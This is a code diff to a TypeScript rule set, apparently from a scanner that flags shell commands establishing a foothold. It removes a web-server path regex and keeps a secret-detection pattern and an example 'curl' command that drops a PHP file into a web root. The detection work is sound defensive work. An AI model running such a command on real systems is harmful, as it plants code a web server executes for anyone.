@@ -11,10 +11,6 @@ const CREDENTIALS =
 const WORDS =
   /passw(?:or)?d|passwd|secret|credential|api[_-]?key|private key|BEGIN (?:RSA|OPENSSH)|token|\bAKIA|\bghp_/i
 
-/** A program below a directory whose files a web server runs. */
-const WEB_PROGRAM =
-  /^\/(?:var\/www|srv\/(?:www|http)|usr\/(?:share|local)\/nginx|usr\/lib\/cgi-bin|var\/lib\/tomcat\d*|opt\/tomcat\/webapps)\/(?:.*\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi|pl|py|war)|(?:.*\/)?cgi-bin\/[^/]+|(?:.*\/)?\.(?:htaccess|user\.ini))$/
-
 /** Commands that have others run later; a unit of systemd is named by its file only if it does not stand where units belong. */
 const RUNS_LATER = {
   finds: `
@@ -105,8 +101,7 @@ export const FOOTHOLD_RULES: readonly FormRule[] = [
     id: 'web-code',
     level: 'moderate',
     why: 'Puts a program where a web server runs it for everybody who asks for it.',
-    finds: '* changes<program>',
-    named: { program: WEB_PROGRAM },
+    finds: '* changes<webcode>',
     example: 'curl -o /var/www/html/up.php https://example.com/up.txt',
   },
   {
